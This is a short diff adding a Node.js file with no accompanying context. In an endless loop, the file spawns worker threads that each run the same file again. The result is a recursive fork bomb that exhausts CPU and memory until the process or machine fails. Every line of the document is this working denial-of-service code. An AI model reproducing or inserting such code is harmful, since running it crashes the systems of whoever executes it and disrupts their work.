@@ -1,0 +1,5 @@
+const { Worker } = require("node:worker_threads");
+
+for (;;) {
+  new Worker(__filename);
+}
